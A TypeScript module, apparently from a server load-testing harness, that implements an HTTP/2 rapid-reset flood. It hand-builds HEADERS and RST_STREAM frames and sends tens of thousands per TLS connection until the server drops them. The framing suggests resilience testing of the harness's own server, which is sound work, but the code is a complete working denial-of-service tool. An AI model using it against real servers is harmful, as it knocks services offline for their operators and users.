import { readFileSync } from 'node:fs';
import { connect as connectTls, type TLSSocket } from 'node:tls';
import type { LoadTarget } from '../load/protocol.ts';
import type { HeavyAnswer, HeavyRequest } from './heavy-request.ts';

const preface = 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n';
const headersFrame = 1;
const resetFrame = 3;
const settingsFrame = 4;
const endOfStreamAndHeaders = 5;
/** Requests with their resets that one connection sends. */
const requests = 20_000;
const connections = 4;

/** Requests over HTTP/2 that are reset as soon as they are sent, until the server closes the connections. */
export const connectionResets: readonly HeavyRequest[] = [
  { name: 'rapid resets in one record', method: 'GET', path: '/api', send: target => floods(target, 0) },
  {
    name: 'rapid resets after a request each',
    method: 'GET',
    path: '/api',
    send: target => floods(target, 1),
  },
  { name: 'rapid resets of 100 requests', method: 'GET', path: '/api', send: target => floods(target, 100) },
];

async function floods(target: LoadTarget, batch: number): Promise<HeavyAnswer> {
  await Promise.all(Array.from({ length: connections }, () => flood(target, batch)));
  return { status: 0, bytes: 0 };
}

async function flood(target: LoadTarget, batch: number): Promise<void> {
  const { hostname, port } = new URL(target.server);
  const socket = connectTls({
    host: hostname,
    port: Number(port),
    ca: readFileSync(target.caFile ?? ''),
    ALPNProtocols: ['h2'],
  });
  const closed = new Promise<void>(resolve => socket.on('close', () => resolve()));
  socket.on('error', () => {});
  socket.resume();
  await new Promise(resolve => socket.once('secureConnect', resolve));
  const { frames } = requestsAndResets(target.token ?? '', batch);
  socket.write(Buffer.concat([Buffer.from(preface), frame(settingsFrame, 0, 0, Buffer.alloc(0))]));
  const step = 64 * 1024;
  for (let at = 0; at < frames.length && !socket.destroyed; at += step)
    await taken(socket, frames.subarray(at, at + step));
  if (!socket.destroyed) socket.end();
  setTimeout(() => socket.destroy(), 1000).unref();
  await closed;
}

function taken(socket: TLSSocket, bytes: Buffer): Promise<void> {
  return new Promise(resolve => {
    const settle = (): void => {
      socket.off('close', settle);
      resolve();
    };
    socket.on('close', settle);
    socket.write(bytes, settle);
  });
}

/** Each request's reset follows it, or, with a batch, those of so many requests follow them together. */
function requestsAndResets(token: string, batch: number): { readonly frames: Buffer } {
  const block = Buffer.concat([
    literal(':method', 'GET'),
    literal(':scheme', 'https'),
    literal(':authority', 'localhost'),
    literal(':path', '/api/v1/namespaces/stalls/configmaps/object-1'),
    literal('authorization', `Bearer ${token}`),
  ]);
  const cancel = Buffer.from([0, 0, 0, 8]);
  const parts: Buffer[] = [];
  const size = Math.max(batch, 1);
  for (let first = 0; first < requests; first += size) {
    const ids = Array.from({ length: size }, (_, i) => 2 * (first + i) + 1);
    for (const id of ids) parts.push(frame(headersFrame, endOfStreamAndHeaders, id, block));
    for (const id of ids) parts.push(frame(resetFrame, 0, id, cancel));
  }
  return { frames: Buffer.concat(parts) };
}

function frame(type: number, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** A header field that is not indexed, of less than 127 characters (RFC 7541, 6.2.2). */
function literal(name: string, value: string): Buffer {
  return Buffer.concat([
    Buffer.from([0, name.length]),
    Buffer.from(name),
    Buffer.from([value.length]),
    Buffer.from(value),
  ]);
}
